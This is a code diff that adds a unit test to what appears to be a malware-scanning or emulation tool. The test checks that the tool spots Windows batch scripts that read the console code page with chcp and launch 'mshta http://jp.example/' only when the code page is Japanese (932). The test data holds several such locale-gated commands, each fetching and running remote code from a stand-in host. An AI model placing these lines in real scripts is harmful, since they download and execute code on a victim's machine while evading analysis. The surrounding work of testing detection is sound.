@@ -318,6 +318,30 @@ static void cmd_asks_the_day(void **state)
     }
 }
 
+/* The console's page tells the country; one that was set is itself. */
+static void the_page_of_the_console_is_a_country(void **state)
+{
+    (void)state;
+    static const struct {
+        const char *text;
+        unsigned runs;
+        bool japan;
+    } rows[] = {
+        {"@echo off\r\nfor /f \"tokens=2 delims=:\" %%a in ('chcp') do if %%a==932 mshta http://jp.example/\r\n", 1, true},
+        {"@echo off\r\nchcp | find \"932\" >nul && mshta http://jp.example/\r\n", 1, true},
+        {"@echo off\r\nfor /f \"tokens=4\" %%a in ('chcp.com') do if %%a==437 mshta http://jp.example/\r\n", 1, false},
+        {"@echo off\r\nchcp 932 >nul\r\nfor /f \"tokens=2 delims=:\" %%a in ('chcp') do if %%a==932 mshta http://jp.example/\r\n", 1, false},
+        {"@echo off\r\nchcp 12345 >nul || mshta http://jp.example/\r\nchcp 866\r\nif errorlevel 1 mshta http://no.example/\r\n", 1, false},
+        {"@echo off\r\nchcp 65001>nul\r\nmshta http://jp.example/\r\n", 1, false},
+    };
+    for (size_t i = 0; i < SK_COUNT(rows); i++) {
+        sk_report *r = scan_text(rows[i].text, "a.bat");
+        if (count_runs(r, "mshta http://jp.example/") != rows[i].runs || count_runs(r, "no.example") || has_fact(r, SK_FACT_EMULATE_LOCALE, "ja-JP") != rows[i].japan)
+            fail_msg("%s", rows[i].text);
+        sk_report_free(r);
+    }
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
@@ -326,7 +350,7 @@ int main(void)
         cmocka_unit_test(a_bare_machine_opens_the_gate), cmocka_unit_test(an_office_passes_the_checks),
         cmocka_unit_test(a_macro_asks_the_machine),      cmocka_unit_test(days_are_keys_in_macros),
         cmocka_unit_test(a_day_in_a_name_is_no_key),   cmocka_unit_test(a_date_opens_the_gate),
-        cmocka_unit_test(a_time_that_is_measured_is_no_date), cmocka_unit_test(days_are_keys_in_scripts), cmocka_unit_test(cmd_asks_the_day),
+        cmocka_unit_test(a_time_that_is_measured_is_no_date), cmocka_unit_test(days_are_keys_in_scripts), cmocka_unit_test(cmd_asks_the_day), cmocka_unit_test(the_page_of_the_console_is_a_country),
         cmocka_unit_test(what_an_analyst_sets_is_not_varied), cmocka_unit_test(endless_runs_share_one_budget),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
